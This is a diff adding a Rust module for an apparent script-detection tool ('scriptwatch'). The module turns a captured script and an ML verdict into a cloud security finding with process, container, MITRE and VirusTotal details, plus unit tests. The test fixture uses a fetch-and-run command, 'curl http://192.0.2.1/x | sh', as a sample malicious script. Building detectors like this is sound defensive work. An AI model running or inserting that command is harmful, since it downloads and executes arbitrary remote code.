@@ -1,0 +1,394 @@
+//! Fills the finding. What each field holds is documented with the public finding type; every field that is
+//! known is filled, and none is guessed.
+
+use std::collections::BTreeMap;
+
+use proto::{
+    scc::{
+        File, Finding, Process,
+        finding::{FindingClass, State},
+    },
+    well_known::{ListValue, Value, value::Kind},
+};
+
+use crate::{
+    attack,
+    id::finding_id,
+    indicator,
+    place::Place,
+    time::{rfc3339, timestamp},
+};
+use identity::{Identity, Node, ProcessFacts};
+use script::{Capture, Origin};
+use verdict::{Verdict, technique::LABELS};
+
+/// Category of the finding, as the public documentation names it.
+const CATEGORY: &str = "Malicious Script Executed";
+
+/// Everything a finding is made of.
+pub struct Evidence<'a> {
+    /// What ran.
+    pub capture: &'a Capture,
+    /// What was found about it.
+    pub verdict: &'a Verdict,
+    /// The machine.
+    pub node: &'a Node,
+    /// Where it ran, as far as known.
+    pub identity: &'a Identity,
+    /// The process's parents, its parent first, as far as they were still there.
+    pub ancestors: &'a [ProcessFacts],
+    /// Unix time now, ns.
+    pub now_unix_ns: u64,
+}
+
+/// Makes the finding.
+pub fn build(evidence: &Evidence<'_>) -> Finding {
+    let Evidence { capture, verdict, node, identity, ancestors, now_unix_ns } = evidence;
+    let sha256 = verdict.hash.to_string();
+    let script = script_file(capture, &sha256);
+    let binary_path = text(&capture.interpreter.path);
+    let binary = File {
+        path: binary_path.clone(),
+        size: signed(capture.interpreter.size),
+        hashed_size: capture.interpreter.sha256.as_ref().map_or(0, |_| signed(capture.interpreter.size)),
+        sha256: capture.interpreter.sha256.clone().unwrap_or_default(),
+        partially_hashed: false,
+        contents: String::new(),
+    };
+    let args: Vec<String> = capture.args.iter().map(|arg| text(arg)).collect();
+    let process = Process {
+        name: process_name(capture),
+        binary: Some(binary),
+        script: Some(script),
+        args: args.clone(),
+        arguments_truncated: capture.args_truncated,
+        pid: i64::from(capture.id.pid),
+        parent_pid: i64::from(capture.ppid),
+        user_id: i64::from(capture.uid),
+        ..Process::default()
+    };
+    let mut processes = vec![process];
+    processes.extend(ancestors.iter().map(ancestor));
+
+    let parent_name =
+        format!("projects/{}/sources/{}/locations/{}", node.project(), node.source, node.location);
+    let place = Place::of(identity, node);
+    let virus_total = format!("https://www.virustotal.com/gui/file/{sha256}/detection");
+    Finding {
+        name: format!("{parent_name}/findings/{}", finding_id(&node.boot_id, &capture.id)),
+        parent: parent_name,
+        resource_name: node.resource_name(),
+        state: State::Active.into(),
+        category: CATEGORY.to_owned(),
+        external_uri: virus_total.clone(),
+        source_properties: properties(evidence, &place, &args, &binary_path, &virus_total),
+        event_time: Some(timestamp(capture.time_unix_ns)),
+        create_time: Some(timestamp(*now_unix_ns)),
+        severity: attack::severity(verdict).into(),
+        finding_class: FindingClass::Threat.into(),
+        indicator: indicator::of(&capture.content),
+        mitre_attack: Some(attack::mitre(verdict)),
+        processes,
+        parent_display_name: "scriptwatch".to_owned(),
+        description: describe(capture, verdict, node, &place),
+        next_steps: next_steps(capture, node, &place),
+        containers: place.containers(),
+        kubernetes: Some(place.kubernetes()),
+        module_name: "SCRIPTWATCH_MALICIOUS_SCRIPT_EXECUTED".to_owned(),
+        ..Finding::default()
+    }
+}
+
+/// The script. A path is given only for scripts on disk; the hash is of exactly the bytes kept.
+fn script_file(capture: &Capture, sha256: &str) -> File {
+    let on_disk = matches!(capture.origin, Origin::File | Origin::Sourced | Origin::Stdin);
+    File {
+        path: capture.path.as_deref().filter(|_| on_disk).map(text).unwrap_or_default(),
+        size: signed(capture.size),
+        sha256: sha256.to_owned(),
+        hashed_size: signed(capture.content.len() as u64),
+        partially_hashed: capture.size > capture.content.len() as u64,
+        contents: text(&capture.content),
+    }
+}
+
+fn ancestor(parent: &ProcessFacts) -> Process {
+    Process {
+        name: parent.name.clone(),
+        binary: Some(File { path: text(&parent.exe), ..File::default() }),
+        args: parent.args.clone(),
+        arguments_truncated: parent.args_truncated,
+        pid: i64::from(parent.pid),
+        parent_pid: i64::from(parent.ppid),
+        user_id: i64::from(parent.uid),
+        ..Process::default()
+    }
+}
+
+/// A process that runs a script file bears the script's name, else its interpreter's.
+fn process_name(capture: &Capture) -> String {
+    let path = capture.path.as_deref().unwrap_or(&capture.interpreter.path);
+    text(path.rsplit(|b| *b == b'/').next().unwrap_or_default())
+}
+
+fn properties(
+    evidence: &Evidence<'_>,
+    place: &Place<'_>,
+    args: &[String],
+    binary_path: &str,
+    virus_total: &str,
+) -> BTreeMap<String, Value> {
+    let Evidence { capture, verdict, node, .. } = evidence;
+    let string = |s: &str| Value { kind: Some(Kind::StringValue(s.to_owned())) };
+    let number = |n: f64| Value { kind: Some(Kind::NumberValue(n)) };
+    let boolean = |b: bool| Value { kind: Some(Kind::BoolValue(b)) };
+    let list = |values: Vec<Value>| Value { kind: Some(Kind::ListValue(ListValue { values })) };
+    let spans = verdict.spans.iter().map(|span| {
+        string(&format!(
+            "lines {}-{}, bytes {}-{}, weight {:.2}",
+            span.first_line, span.last_line, span.start, span.end, span.weight
+        ))
+    });
+    let created = rfc3339(clock::boot_unix_ns() + capture.start_ns);
+    let mut properties = BTreeMap::from([
+        ("Script_Origin", string(capture.origin.name())),
+        ("Script_SHA256", string(&verdict.hash.to_string())),
+        ("Verdict_Score", number(f64::from(verdict.score))),
+        ("Verdict_Techniques", list(verdict.technique_ids().into_iter().map(string).collect())),
+        ("Verdict_Spans", list(spans.collect())),
+        ("VirusTotal_Link", string(virus_total)),
+        ("VM_Instance_Name", string(node.instance())),
+        ("Node_Name", string(&node.name)),
+        ("User_Id", number(f64::from(capture.uid))),
+        ("Pid", number(f64::from(capture.id.pid))),
+        ("Container_Pid", number(f64::from(capture.ns_pid))),
+        ("Parent_Pid", number(f64::from(capture.ppid))),
+        ("Process_Binary_Fullpath", string(binary_path)),
+        ("Process_Arguments", list(args.iter().map(|arg| string(arg)).collect())),
+        ("Process_Creation_Timestamp", string(&created)),
+    ]);
+    properties.extend(place.properties().into_iter().map(|(key, value)| (key, string(&value))));
+    if capture.flags.incomplete {
+        properties.insert("Script_Incomplete", boolean(true));
+    }
+    if capture.flags.mixed_with_data {
+        properties.insert("Script_Mixed_With_Data", boolean(true));
+    }
+    if capture.flags.keystrokes {
+        properties.insert("Script_From_Keystrokes", boolean(true));
+    }
+    if capture.flags.maybe_data {
+        properties.insert("Script_Maybe_Data", boolean(true));
+    }
+    if let Some(by) = &capture.evaluated_by {
+        properties.insert("Script_Evaluated_By", string(&text(by)));
+    }
+    if let Some(parent) = &capture.parent {
+        // The finding that the parent has, or would have if it was malicious.
+        properties.insert("Script_Parent", string(&finding_id(&node.boot_id, parent)));
+    }
+    if std::str::from_utf8(&capture.content).is_err() {
+        // The hash is of the bytes as they ran; the contents show replacement characters.
+        properties.insert("Script_Not_UTF8", boolean(true));
+    }
+    properties.into_iter().map(|(key, value)| (key.to_owned(), value)).collect()
+}
+
+fn describe(capture: &Capture, verdict: &Verdict, node: &Node, place: &Place<'_>) -> String {
+    let how = match capture.origin {
+        Origin::File => "from a file",
+        Origin::Command => "given as an argument (-c)",
+        Origin::Stdin => "from standard input",
+        Origin::Sourced => "sourced from a file",
+        Origin::Eval => "as an evaluated string",
+        Origin::Interactive => "typed at a terminal",
+    };
+    let interpreter = text(&capture.interpreter.path);
+    let names: Vec<&str> = verdict.techniques.iter().map(|i| LABELS[*i].name).collect();
+    let shows = if names.is_empty() { String::new() } else { format!(" It shows: {}.", names.join(", ")) };
+    let lines: Vec<String> = verdict
+        .spans
+        .iter()
+        .map(|s| {
+            if s.first_line == s.last_line {
+                s.first_line.to_string()
+            } else {
+                format!("{}-{}", s.first_line, s.last_line)
+            }
+        })
+        .collect();
+    let because = if lines.is_empty() {
+        String::new()
+    } else {
+        format!(" Lines that carried the verdict: {}.", lines.join(", "))
+    };
+    format!(
+        "{interpreter} executed a script {how} of {} bytes {} on node {}, which a machine learning model takes for malicious (score {:.3}).{shows}{because}",
+        capture.size,
+        place.words(),
+        node.name,
+        verdict.score
+    )
+}
+
+fn next_steps(capture: &Capture, node: &Node, place: &Place<'_>) -> String {
+    format!(
+        "1. Read the script and the lines named in Verdict_Spans. 2. Look the hash up at VirusTotal. 3. On node {}, \
+         look at process {} and its parents, listed in this finding: who started them, and is that expected? 4. {} \
+         5. If the script is not yours, isolate the workload, rotate the credentials it could read, and look for \
+         other findings with the same hash.",
+        node.name,
+        capture.id.pid,
+        place.how_to_look(),
+    )
+}
+
+/// Bytes as a Protobuf string: U+FFFD where they are not UTF-8.
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn signed(n: u64) -> i64 {
+    i64::try_from(n).unwrap_or(i64::MAX)
+}
+
+#[cfg(test)]
+mod tests {
+    use proto::scc::{finding::Severity, mitre_attack::Technique};
+
+    use super::*;
+    use identity::{Cloud, Container, ContainerId, Pod};
+    use script::{Interpreter, ScriptFlags, ScriptId};
+    use shell::Family;
+    use verdict::ScriptHash;
+
+    fn finding(change: impl FnOnce(&mut Capture)) -> Finding {
+        finding_in(&Identity::default(), change)
+    }
+
+    fn finding_in(identity: &Identity, change: impl FnOnce(&mut Capture)) -> Finding {
+        let mut capture = Capture {
+            id: ScriptId { pid: 10, exec_ns: 20, ordinal: 0 },
+            origin: Origin::File,
+            parent: None,
+            evaluated_by: None,
+            content: b"curl http://192.0.2.1/x | sh\n"[..].into(),
+            size: 29,
+            flags: ScriptFlags::default(),
+            path: Some(b"/tmp/x.sh".to_vec()),
+            interpreter: Interpreter {
+                kind: Family::named("bash").unwrap(),
+                path: b"/bin/bash".to_vec(),
+                size: 5,
+                sha256: Some("ab".to_owned()),
+            },
+            args: vec![b"/bin/bash".to_vec(), b"/tmp/x.sh".to_vec()],
+            args_truncated: false,
+            ns_pid: 1,
+            ppid: 9,
+            uid: 0,
+            gid: 0,
+            cgroup: 1,
+            start_ns: 1,
+            time_unix_ns: 1_700_000_000_000_000_001,
+        };
+        change(&mut capture);
+        let verdict = Verdict {
+            hash: ScriptHash::of(&capture.content),
+            score: 0.9,
+            malicious: true,
+            techniques: vec![4],
+            spans: vec![],
+        };
+        let node = Node {
+            name: "n".to_owned(),
+            boot_id: "b".to_owned(),
+            source: "s".to_owned(),
+            location: "global".to_owned(),
+            cloud: Cloud { project_id: "p".to_owned(), ..Cloud::default() },
+            is_complete: true,
+        };
+        build(&Evidence {
+            capture: &capture,
+            verdict: &verdict,
+            node: &node,
+            identity,
+            ancestors: &[],
+            now_unix_ns: 5,
+        })
+    }
+
+    fn script(finding: &Finding) -> File {
+        finding.processes[0].script.clone().unwrap()
+    }
+
+    #[test]
+    fn the_hash_is_of_the_contents_and_sizes_agree() {
+        let whole = script(&finding(|_| {}));
+        assert_eq!(whole.sha256, ScriptHash::of(whole.contents.as_bytes()).to_string());
+        assert_eq!((whole.size, whole.hashed_size, whole.partially_hashed), (29, 29, false));
+        let cut = script(&finding(|c| c.size = 2_000_000));
+        assert_eq!((cut.size, cut.hashed_size, cut.partially_hashed), (2_000_000, 29, true));
+    }
+
+    #[test]
+    fn literal_execution_has_no_path() {
+        assert_eq!(script(&finding(|_| {})).path, "/tmp/x.sh");
+        let literal = finding(|c| c.origin = Origin::Command);
+        assert_eq!(script(&literal).path, "");
+    }
+
+    #[test]
+    fn an_escape_is_critical_and_names_its_technique() {
+        let finding = finding(|_| {});
+        assert_eq!(finding.severity(), Severity::Critical);
+        let attack = finding.mitre_attack.unwrap();
+        assert!(attack.additional_techniques.contains(&i32::from(Technique::EscapeToHost)));
+        assert_eq!(attack.primary_techniques, [6, 7]);
+    }
+
+    #[test]
+    fn a_container_is_told_in_every_place_where_it_belongs() {
+        let pod = Pod {
+            namespace: "shop".to_owned(),
+            name: "web-0".to_owned(),
+            uid: "u".to_owned(),
+            labels: [("app".to_owned(), "web".to_owned())].into(),
+        };
+        let container = Container {
+            id: ContainerId::new(&"0".repeat(64)).unwrap(),
+            name: "app".to_owned(),
+            image_uri: "registry.example/web:1".to_owned(),
+            image_id: "sha256:1".to_owned(),
+            labels: BTreeMap::new(),
+            created_unix_ns: Some(1_700_000_000_000_000_000),
+            sandbox: "s".to_owned(),
+            pod: Some(pod),
+        };
+        let finding =
+            finding_in(&Identity { container: Some(container.into()), ..Identity::default() }, |_| {});
+        let pods = &finding.kubernetes.as_ref().unwrap().pods;
+        assert_eq!((pods[0].ns.as_str(), pods[0].name.as_str()), ("shop", "web-0"));
+        assert_eq!(pods[0].labels[0].value, "web");
+        assert_eq!(pods[0].containers, finding.containers);
+        assert_eq!(finding.containers[0].uri, "registry.example/web:1");
+        let property = |key: &str| match finding.source_properties[key].kind.as_ref() {
+            Some(Kind::StringValue(text)) => text.clone(),
+            other => panic!("{other:?}"),
+        };
+        assert_eq!(property("Pod_Namespace"), "shop");
+        assert_eq!(property("Container_Image_Id"), "sha256:1");
+        assert_eq!(property("Container_Creation_Timestamp"), "2023-11-14T22:13:20Z");
+        assert!(finding.description.contains("pod shop/web-0"));
+    }
+
+    #[test]
+    fn names_follow_the_documented_form() {
+        let finding = finding(|_| {});
+        let (parent, id) = finding.name.rsplit_once("/findings/").unwrap();
+        assert_eq!(parent, "projects/p/sources/s/locations/global");
+        assert!((1..=32).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_alphanumeric()));
+        assert!(finding.source_properties.keys().all(|k| k.as_bytes()[0].is_ascii_alphabetic()
+            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')));
+    }
+}
